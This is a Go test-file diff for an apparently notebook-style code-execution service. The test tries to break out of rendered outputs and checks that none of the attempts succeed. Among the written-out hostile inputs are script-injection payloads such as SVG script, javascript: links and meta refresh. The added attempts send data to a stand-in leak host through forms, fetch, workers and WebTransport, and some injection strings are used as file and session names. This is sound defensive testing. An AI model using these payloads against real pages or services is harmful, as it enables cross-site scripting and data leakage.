@@ -3,11 +3,14 @@ package browser
 import (
 	"fmt"
 	"net"
+	"net/url"
 	"strings"
 	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
+
+	"github.com/chromedp/chromedp"
 )
 
 // breakout is the document of an output that tries all that a page could do to another, or to the network.
@@ -35,6 +38,13 @@ const tries = [
   () => { tag('base', {href: leak}); const i = new Image(); i.src = 'base'; },
   () => { new Worker(URL.createObjectURL(new Blob(["fetch('" + leak + "worker', {mode: 'no-cors'})"]))); },
   () => import(leak + 'module.js'),
+  () => { tag('a', {href: leak + 'anchor', target: '_top'}).click(); },
+  () => { tag('form', {action: leak + 'top-form', target: '_top'}).submit(); },
+  () => { tag('embed', {src: leak + 'embed'}); tag('video', {src: leak + 'video', autoplay: true}); },
+  () => fetch(leak + 'keepalive', {mode: 'no-cors', keepalive: true}),
+  () => { new SharedWorker(leak + 'shared.js'); },
+  () => new WebTransport('https://LEAK/transport').ready,
+  () => { alert('x'); confirm('x'); print(); },
   () => navigator.serviceWorker.register('/x.js'),
   async () => { const c = new RTCPeerConnection({iceServers: [{urls: 'stun:STUN'}]}); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); },
   () => { for (const height of [1e9, -5, '<b>', null, {}]) parent.postMessage({cellblock: 'height', height}, '*'); parent.postMessage('x', '*'); },
@@ -64,7 +74,22 @@ func TestNothingBreaksOut(t *testing.T) {
 	for _, text := range injections {
 		q := quoted(text)
 		s.python(t, c, "hostile", fmt.Sprintf("# %s\nprint(%s, '\\x1b]8;;javascript:window.owned=1\\x07link\\x1b]8;;\\x07')\ndisplay(Markdown(%s), Latex(%s), JSON({%s: %s}), SVG('<svg xmlns=\"http://www.w3.org/2000/svg\"><script>parent.owned=1</script></svg>'))\n"+
-			"display({'text/plain': %s, 'image/png': 'AAAA'}, raw=True, metadata={'image/png': {'width': %s}})\ndisplay({'x/'+%s: %s}, raw=True, display_id=%s)\nraise type(%s, (Exception,), {})(%s)", text, q, q, q, q, q, q, q, q, q, q, q, q))
+			"display({'text/plain': %s, 'image/png': 'AAAA'}, raw=True, metadata={'image/png': {'width': %s}})\ndisplay({'x/'+%s: %s}, raw=True, display_id=%s)\ntry: input(%s)\nexcept Exception: pass\nraise type(%s, (Exception,), {})(%s)", text, q, q, q, q, q, q, q, q, q, q, q, q, q))
+	}
+	for _, leads := range []string{`<meta http-equiv="refresh" content="0;url=LEAK/refresh">`, `<a id=a href="LEAK/download" download>x</a><script>document.getElementById('a').click()</script>`} {
+		s.python(t, c, "hostile", "HTML("+quoted(strings.ReplaceAll(leads, "LEAK", "http://"+leak.tcp))+")")
+	}
+	for _, text := range injections {
+		name := strings.ReplaceAll(text, "/", "") + ".py"
+		for _, tool := range []string{"write_file", "execute_file"} {
+			arguments := map[string]any{"session_id": "hostile", "path": name}
+			if tool == "write_file" {
+				arguments["content"] = "1"
+			}
+			if r, err := c.Call(t.Context(), tool, arguments, nil); err != nil || r.IsError {
+				t.Fatalf("%s of %s: %v %s", tool, name, err, r.Text)
+			}
+		}
 	}
 	p := s.signIn(t)
 	p.expects("") // each attempt is logged
@@ -75,9 +100,13 @@ func TestNothingBreaksOut(t *testing.T) {
 	for n := range injections {
 		p.untilCell(n+3, "cell.querySelector('.error-name')?.innerText.includes("+quoted(injections[n])+")")
 	}
-	if owned := eval[bool](p, "'owned' in window || document.title.includes('owned') || document.cookie !== ''"); owned {
-		t.Error("something ran in the page")
+	leading := len(injections) + 3
+	p.showCell(leading)
+	p.showCell(leading + 1)
+	for i, text := range injections {
+		p.untilCell(leading+2+i, "cell.querySelector('.code.script')?.innerText === "+quoted("run "+strings.ReplaceAll(text, "/", "")+".py"))
 	}
+	p.checkNotOwned()
 	if where := eval[string](p, "location.pathname"); where != "/s/hostile" {
 		t.Errorf("the page was led to %s", where)
 	}
@@ -87,8 +116,21 @@ func TestNothingBreaksOut(t *testing.T) {
 	if n := p.count("article script, article style, article svg, article [onerror], article iframe[srcdoc], article a[href^='javascript']"); n != 0 {
 		t.Errorf("%d elements that do not belong there", n)
 	}
+	for _, text := range injections { // as the name of a session, which the answer speaks of
+		p.do(chromedp.Navigate(s.base + "/s/" + url.PathEscape(text)))
+		p.until("document.readyState === 'complete' && document.body.innerText !== ''")
+		p.checkNotOwned()
+	}
 	if got := leak.connections(); got != "" {
 		t.Errorf("something connected: %s", got)
+	}
+}
+
+// checkNotOwned fails the test if something that an injection does was done to the page.
+func (p *tab) checkNotOwned() {
+	p.t.Helper()
+	if eval[bool](p, "'owned' in window || document.title.includes('owned') || document.cookie !== '' || getComputedStyle(document.body).display === 'none'") {
+		p.t.Errorf("something ran in the page %s", eval[string](p, "location.href"))
 	}
 }
 
